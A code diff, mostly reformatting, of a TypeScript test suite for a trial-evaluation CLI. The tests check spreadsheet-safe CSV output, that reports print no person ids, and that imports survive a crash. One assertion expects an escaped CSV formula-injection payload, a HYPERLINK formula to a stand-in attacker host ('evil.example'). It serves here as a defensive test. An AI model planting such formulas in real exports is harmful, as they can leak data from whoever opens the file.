@@ -19,7 +19,9 @@ let dir = '';
 let runs: CliRun[] = [];
 
 function csvFilesUnder(d: string): string[] {
-  return readdirSync(d, { withFileTypes: true }).flatMap((e) => (e.isDirectory() ? csvFilesUnder(join(d, e.name)) : e.name.endsWith('.csv') ? [join(d, e.name)] : []));
+  return readdirSync(d, { withFileTypes: true }).flatMap((e) =>
+    e.isDirectory() ? csvFilesUnder(join(d, e.name)) : e.name.endsWith('.csv') ? [join(d, e.name)] : [],
+  );
 }
 
 beforeAll(async () => {
@@ -27,15 +29,68 @@ beforeAll(async () => {
   dir = mkdtempSync(join(tmpdir(), 'pilot-eval-outputs-'));
   writeFileSync(join(dir, 'salt.txt'), 'a-secret-salt-of-enough-length\n');
   const F = `${H}/cases-formula.csv`;
-  const R = ['report', '--concept', 'pcp', '--stage', 'pilot', '--cases', 'fixtures/pcp/cases.csv', '--offences', 'fixtures/pcp/offences.csv', '--themes', `${H}/themes-unknown-source.csv`, '--process', 'fixtures/pcp/process.csv', '--costs', 'fixtures/pcp/costs.csv'];
+  const R = [
+    'report',
+    '--concept',
+    'pcp',
+    '--stage',
+    'pilot',
+    '--cases',
+    'fixtures/pcp/cases.csv',
+    '--offences',
+    'fixtures/pcp/offences.csv',
+    '--themes',
+    `${H}/themes-unknown-source.csv`,
+    '--process',
+    'fixtures/pcp/process.csv',
+    '--costs',
+    'fixtures/pcp/costs.csv',
+  ];
   runs = await pool(
     [
       ['import', '--cases', F, '--out-dir', join(dir, 'import')],
-      ['import', '--cases', F, '--out-dir', join(dir, 'import-pseud'), '--pseudonymise', '--salt-file', join(dir, 'salt.txt')],
-      ['import', '--cases', `${H}/cases-impossible-dates.csv`, '--out-dir', join(dir, 'import-rejects'), '--allow-rejects', '--date-format', 'dmy'], // dmy: its 12/31/2022 is a bad date, not a refused US column
+      [
+        'import',
+        '--cases',
+        F,
+        '--out-dir',
+        join(dir, 'import-pseud'),
+        '--pseudonymise',
+        '--salt-file',
+        join(dir, 'salt.txt'),
+      ],
+      [
+        'import',
+        '--cases',
+        `${H}/cases-impossible-dates.csv`,
+        '--out-dir',
+        join(dir, 'import-rejects'),
+        '--allow-rejects',
+        '--date-format',
+        'dmy',
+      ], // dmy: its 12/31/2022 is a bad date, not a refused US column
       ['randomise', F, '--method', 'complete', '--seed', '3', '--out', join(dir, 'alloc', 'allocation.csv')],
-      ['randomise', F, '--method', 'block', '--block', 'stratum', '--seed', '3', '--ledger', join(dir, 'ledger', 'ledger.csv')],
-      ['reoffending', '--cases', F, '--offences', `${H}/good-offences.csv`, '--out', join(dir, 'reoff', 'outcomes.csv')],
+      [
+        'randomise',
+        F,
+        '--method',
+        'block',
+        '--block',
+        'stratum',
+        '--seed',
+        '3',
+        '--ledger',
+        join(dir, 'ledger', 'ledger.csv'),
+      ],
+      [
+        'reoffending',
+        '--cases',
+        F,
+        '--offences',
+        `${H}/good-offences.csv`,
+        '--out',
+        join(dir, 'reoff', 'outcomes.csv'),
+      ],
       ['simulate', '--concept', 'pcp', '--stage', 'pilot', '--seed', '5', '--out-dir', join(dir, 'sim')],
       [...R, '--format', 'html', '--out', join(dir, 'report', 'r.html')],
       [...R, '--format', 'md', '--out', join(dir, 'report', 'r.md')],
@@ -58,9 +113,15 @@ describe('CSV outputs are safe to open in a spreadsheet', () => {
     const files = csvFilesUnder(dir);
     expect(files.length).toBeGreaterThanOrEqual(10);
     for (const f of files) {
-      const parsed = Papa.parse<string[]>(readFileSync(f, 'utf8'), { header: false, skipEmptyLines: true, delimiter: ',' });
+      const parsed = Papa.parse<string[]>(readFileSync(f, 'utf8'), {
+        header: false,
+        skipEmptyLines: true,
+        delimiter: ',',
+      });
       expect(parsed.errors, f).toEqual([]);
-      for (const row of parsed.data) for (const cell of row) if (/^[=+\-@\t\r]/.test(cell)) expect(NUMBER.test(cell), `${f}: ${JSON.stringify(cell)}`).toBe(true);
+      for (const row of parsed.data)
+        for (const cell of row)
+          if (/^[=+\-@\t\r]/.test(cell)) expect(NUMBER.test(cell), `${f}: ${JSON.stringify(cell)}`).toBe(true);
     }
     const alloc = readFileSync(join(dir, 'alloc', 'allocation.csv'), 'utf8');
     expect(alloc).toContain(`"'=HYPERLINK(""http://evil.example/?x="")"`);
@@ -71,8 +132,16 @@ describe('CSV outputs are safe to open in a spreadsheet', () => {
 
 describe('reports never print person ids or participant pseudonyms', () => {
   it('html, md and json hold no P000123-style id, no participant code, and no live hostile html', () => {
-    const ids = readFileSync('fixtures/pcp/cases.csv', 'utf8').split('\n').slice(1).map((l) => l.split(',')[0]!).filter(Boolean);
-    const participants = readFileSync(`${H}/themes-unknown-source.csv`, 'utf8').split('\n').slice(1).map((l) => l.split(',')[1]!).filter(Boolean);
+    const ids = readFileSync('fixtures/pcp/cases.csv', 'utf8')
+      .split('\n')
+      .slice(1)
+      .map((l) => l.split(',')[0]!)
+      .filter(Boolean);
+    const participants = readFileSync(`${H}/themes-unknown-source.csv`, 'utf8')
+      .split('\n')
+      .slice(1)
+      .map((l) => l.split(',')[1]!)
+      .filter(Boolean);
     expect(ids.length).toBeGreaterThan(500);
     for (const f of ['r.html', 'r.md', 'r.json']) {
       const text = readFileSync(join(dir, 'report', f), 'utf8');
@@ -97,7 +166,8 @@ describe('crash safety', () => {
     try {
       // ~40 MB of cases: the import takes long enough to be killed while writing.
       const head = 'id,arm,team,sex,age,ogrs3,start_date,site\n';
-      const row = (i: number) => `Q${String(i).padStart(7, '0')},${i % 2 ? 'treatment' : 'control'},T${i % 50},male,${20 + (i % 60)},0.3,2022-01-01,${'x'.repeat(300)}\n`;
+      const row = (i: number) =>
+        `Q${String(i).padStart(7, '0')},${i % 2 ? 'treatment' : 'control'},T${i % 50},male,${20 + (i % 60)},0.3,2022-01-01,${'x'.repeat(300)}\n`;
       const parts: string[] = [head];
       for (let i = 0; i < 120_000; i++) parts.push(row(i));
       writeFileSync(join(d, 'big.csv'), parts.join(''));
@@ -112,7 +182,11 @@ describe('crash safety', () => {
       const TEMP = /^\..*\.\d+\.[0-9a-f]+\.tmp$/;
       let killedWhileWriting = 0;
       for (const delay of [0, 20, 80, 200]) {
-        const child = spawn(process.execPath, [join(ROOT, 'bin', 'pilot-eval'), 'import', '--cases', join(d, 'big.csv'), '--out-dir', out], { cwd: ROOT, stdio: 'ignore' });
+        const child = spawn(
+          process.execPath,
+          [join(ROOT, 'bin', 'pilot-eval'), 'import', '--cases', join(d, 'big.csv'), '--out-dir', out],
+          { cwd: ROOT, stdio: 'ignore' },
+        );
         // Listen before anything else can happen, so a child that ends early still resolves.
         const closed = new Promise<NodeJS.Signals | null>((res) => child.on('close', (_code, signal) => res(signal)));
         let running = true;
@@ -120,20 +194,28 @@ describe('crash safety', () => {
         // This child's own temp file (its pid is in the name), not one a previous kill left behind.
         const mine = (f: string) => TEMP.test(f) && f.includes(`.${child.pid}.`);
         const deadline = Date.now() + 60_000;
-        while (running && Date.now() < deadline && !readdirSync(out).some(mine)) await new Promise((res) => setTimeout(res, 2));
+        while (running && Date.now() < deadline && !readdirSync(out).some(mine))
+          await new Promise((res) => setTimeout(res, 2));
         const sawTemp = readdirSync(out).some(mine);
         if (delay > 0) await new Promise((res) => setTimeout(res, delay));
         if (running) child.kill('SIGKILL');
         const signal = await closed;
         if (sawTemp && signal === 'SIGKILL') killedWhileWriting++;
         const now = readFileSync(join(out, 'cases.csv'));
-        const whole = now.equals(old) || now.toString('utf8').split('\n').length === old.toString('utf8').split('\n').length;
-        expect(whole, `cases.csv is partial after a kill ${delay} ms into the write (${statSync(join(out, 'cases.csv')).size} bytes)`).toBe(true);
+        const whole =
+          now.equals(old) || now.toString('utf8').split('\n').length === old.toString('utf8').split('\n').length;
+        expect(
+          whole,
+          `cases.csv is partial after a kill ${delay} ms into the write (${statSync(join(out, 'cases.csv')).size} bytes)`,
+        ).toBe(true);
         // Only hidden temp files may remain (documented in SECURITY.md), with the folder's lock and
         // the write-ahead record of an interrupted set (the next import finishes it); never a
         // visible partial output.
         const extra = (f: string) => f === 'import.json.lock' || f === 'import.json.journal';
-        for (const f of readdirSync(out)) expect(f === 'cases.csv' || f === 'import.json' || f === 'rejects.csv' || TEMP.test(f) || extra(f), f).toBe(true);
+        for (const f of readdirSync(out))
+          expect(f === 'cases.csv' || f === 'import.json' || f === 'rejects.csv' || TEMP.test(f) || extra(f), f).toBe(
+            true,
+          );
       }
       // The test means something only if at least one kill landed while a temp file was being written.
       expect(killedWhileWriting).toBeGreaterThanOrEqual(1);
